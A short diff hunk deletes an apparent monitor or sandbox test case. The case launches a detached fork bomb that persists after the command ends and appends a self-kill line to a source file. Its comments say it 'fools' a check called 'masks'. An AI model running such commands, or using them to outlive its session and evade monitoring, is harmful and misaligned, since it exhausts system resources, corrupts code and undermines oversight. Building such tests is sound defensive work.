@@ -1,6 +1,0 @@
-# tries: A fork bomb in its own sandbox, left behind when the command ends.
-# fools: masks
-echo 'import os; os.kill(os.getpid(), 9)' >> "$SOURCE"
-bomb() { bomb | bomb & }
-(setsid bash -c 'bomb() { bomb | bomb & }; bomb' > /dev/null 2>&1 &)
-sleep 1
